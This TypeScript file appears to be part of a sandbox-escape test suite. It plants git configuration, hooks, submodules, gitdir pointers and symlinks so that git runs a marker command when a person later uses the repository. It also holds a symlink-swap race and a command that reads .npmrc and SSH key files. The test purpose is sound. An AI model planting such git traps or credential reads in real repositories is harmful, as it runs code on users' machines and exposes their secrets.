/** Programs that plant what git would run, or where it would look, when a person uses it afterwards. */
import { join } from 'node:path';
import type { Attack } from '../attack.js';
import { broken, escaped, type Finding } from '../finding.js';
import type { Arena } from '../arena.js';
import { commitAll, git, MARK, workAsPerson } from '../git.js';
import { perlNumbers } from '../syscalls.js';
import { probe, type ProbeOptions } from '../probe.js';

function repository(arena: Arena): void {
  arena.files({ 'a.txt': 'a\n', 'sub/b.txt': 'b\n' });
  commitAll(arena);
}

/** A program for git, which leaves a mark in the workspace. */
const evil = ({ workspace }: Arena) => `touch ${workspace}/${MARK}`;

/** In a repository; afterwards a person works with git there. */
function planted(
  name: string,
  what: string,
  program: (arena: Arena) => string,
  options: ProbeOptions = {},
): Attack {
  return probe(`git-${name}`, what, program, { before: repository, after: workAsPerson, ...options });
}

const ownRepository = (folder: string, command: string) =>
  `mkdir -p ${folder}/objects ${folder}/refs/heads ${folder}/hooks; printf 'ref: refs/heads/main\\n' > ${folder}/HEAD; printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = "${command};"\\n\\tpager = "${command};"\\n[diff]\\n\\texternal = ${command}\\n' > ${folder}/config; printf '#!/bin/sh\\n${command}\\n' > ${folder}/hooks/post-checkout; chmod +x ${folder}/hooks/post-checkout; rm -f RAN`;

const plants: readonly Attack[] = [
  planted(
    'config',
    'plants programs in git’s configuration',
    (arena) =>
      `git config core.fsmonitor '${evil(arena)};'; printf '[core]\\n\\tfsmonitor = "${evil(arena)};"\\n' >> .git/config; sed -i 's/bare.*/fsmonitor = x/' .git/config; git config --file .git/config.worktree core.fsmonitor '${evil(arena)};'; git config extensions.worktreeConfig true; rm -f RAN`,
  ),
  planted(
    'hooks',
    'plants hooks',
    (arena) =>
      `for h in pre-commit post-checkout post-index-change reference-transaction fsmonitor-watchman; do printf '#!/bin/sh\\n${evil(arena)}\\n' > .git/hooks/$h; chmod +x .git/hooks/$h; done; mv .git/hooks .git/h2; rm -rf .git/hooks; mkdir .git/hooks; cp -a .git/h2/. .git/hooks/; rm -f RAN`,
  ),
  planted(
    'moved',
    'puts another repository in the place of the first',
    (arena) => `mv .git old; rm -rf .git; ${ownRepository('.git', evil(arena))}`,
  ),
  planted(
    'commondir',
    'sends git elsewhere by commondir',
    (arena) =>
      `${ownRepository('x', evil(arena))}; echo "$PWD/x" > .git/commondir; cp x/config .git/config.worktree; mkdir -p .git/info; echo '* filter=x diff=x' > .git/info/attributes; rm -f RAN`,
  ),
  planted(
    'pointer',
    'sends git elsewhere by a .git file',
    (arena) =>
      `${ownRepository('.git/evil', evil(arena))}; printf 'gitdir: ../.git/evil\\n' > sub/.git; rm -f RAN`,
  ),
  planted(
    'pointer-in-modules',
    'sends git into a folder beside a submodule’s',
    (arena) =>
      `${ownRepository('.git/modules/m/evil', evil(arena))}; printf 'ref: refs/heads/main\\n' > .git/modules/m/HEAD; printf 'gitdir: ../.git/modules/m/evil\\n' > sub/.git; rm -f RAN`,
  ),
  planted(
    'pointer-outside',
    'sends git to a place outside',
    ({ folder }) => `printf 'gitdir: ${folder}/person\\n' > sub/.git; ln -s ${folder}/person sub2; rm -f RAN`,
  ),
  planted(
    'bare',
    'makes a folder look like a bare repository',
    (arena) => `${ownRepository('sub/bare', evil(arena))}; ${ownRepository('sub', evil(arena))}; rm -f RAN`,
  ),
  planted(
    'nested',
    'makes a repository further down',
    (arena) =>
      `mkdir -p n/m; ${ownRepository('n/m/.git', evil(arena))}; ${ownRepository('n/.GIT', evil(arena))}; rm -f RAN`,
  ),
  planted(
    'work-tree',
    'lets git’s work tree be elsewhere',
    ({ folder }) =>
      `git config core.worktree ${folder}/person; git init -q t; git -C t config core.worktree ${folder}/person; git -C t -c core.worktree=$PWD/t -c user.name=a -c user.email=a@b commit -q --allow-empty -m x; rm -f RAN`,
    {
      after: (arena) => {
        for (const place of ['.', 't']) {
          const where = git(join(arena.workspace, place), 'config', 'core.worktree') ?? '';
          if (where.includes(arena.folder)) return [escaped(`git works on ${where.trim()} in ${place}`)];
        }
        return workAsPerson(arena);
      },
    },
  ),
  planted(
    'attributes',
    'plants filters by attributes',
    (arena) =>
      `printf '* filter=x diff=x merge=x\\n' > .gitattributes; git config filter.x.clean '${evil(arena)};cat'; git -c filter.x.clean='${evil(arena)}; cat' status; rm -f RAN`,
  ),
  planted(
    'include',
    'includes a configuration of its own',
    (arena) =>
      `printf '[core]\\n\\tfsmonitor = "${evil(arena)};"\\n' > inc; git config include.path ../inc; git config includeIf.gitdir:/.path ../inc; git config core.hooksPath "$PWD"; rm -f RAN`,
  ),
  planted(
    'submodule',
    'plants a submodule that runs programs',
    (arena) =>
      `printf '[submodule "s"]\\n\\tpath = s\\n\\turl = ./x\\n\\tupdate = !${evil(arena)}\\n' > .gitmodules; mkdir -p s; ${ownRepository('.git/modules/s', evil(arena))}; printf 'gitdir: ../.git/modules/s\\n' > s/.git; rm -f RAN`,
  ),
  planted(
    'worktree',
    'plants a linked work tree',
    (arena) =>
      `git worktree add -q w 2>/dev/null; ${ownRepository('.git/worktrees/w2', evil(arena))}; echo ../.. > .git/worktrees/w2/commondir; printf '[core]\\n\\tfsmonitor = "${evil(arena)};"\\n' > .git/worktrees/w2/config.worktree; mkdir -p w2; printf 'gitdir: ../.git/worktrees/w2\\n' > w2/.git; rm -f RAN`,
  ),
  planted(
    'link',
    'puts a link in the place of .git',
    (arena) =>
      `${ownRepository('x', evil(arena))}; mv .git y; ln -sfn x .git; mkdir k; ln -s ../x k/.git; mkdir j; ln -s "$PWD/x" j/.git; rm -f RAN`,
  ),
];

/** Two boxes of one workspace: the first swaps a folder for a link while the second starts. */
const twoBoxes: Attack = probe(
  'race-two-boxes',
  'one command swaps folders for links while others start',
  ({
    folder,
  }) => `mkdir -p n/.git n/config; echo x > n/.env; ln -s /oldroot${folder}/person n/l; ln -s ${folder}/person n/m
perl -e '${perlNumbers().replaceAll("'", '"')} my $end = time + 4; while (time < $end) { for my $p (["n/.git", "n/l"], ["n/.env", "n/m"], ["n/.git", "n/m"]) { for (1..50) { syscall(SYS_renameat2, -100, $$p[0], -100, $$p[1], 2) } } }'`,
  {
    before: repository,
    spec: { timeoutMs: 15_000 },
  },
);

const race: Attack = {
  ...twoBoxes,
  run: async (arena) => {
    const [first, others] = await Promise.all([twoBoxes.run(arena), manyStarts(arena)]);
    return [...first, ...others];
  },
};

async function manyStarts(arena: Arena): Promise<readonly Finding[]> {
  const steal =
    'cat n/.git/.npmrc n/.git/.ssh/* n/l/.npmrc n/m/.npmrc n/.env/.npmrc 2>/dev/null; echo x > n/.git/bullpen-escaped';
  const until = performance.now() + 4_000;
  const said: string[] = [];
  while (performance.now() < until)
    said.push(
      await arena.run(steal, { timeoutMs: 5_000 }).then(
        ({ output }) => output,
        // It may be refused to start: that is not a way out.
        (error: unknown) => String(error),
      ),
    );
  return [
    ...arena.canaries.seenIn(said.join('\n')),
    ...(said.length > 5 ? [] : [broken(`only ${said.length} starts`)]),
  ];
}

export const repositories: readonly Attack[] = [...plants, race];
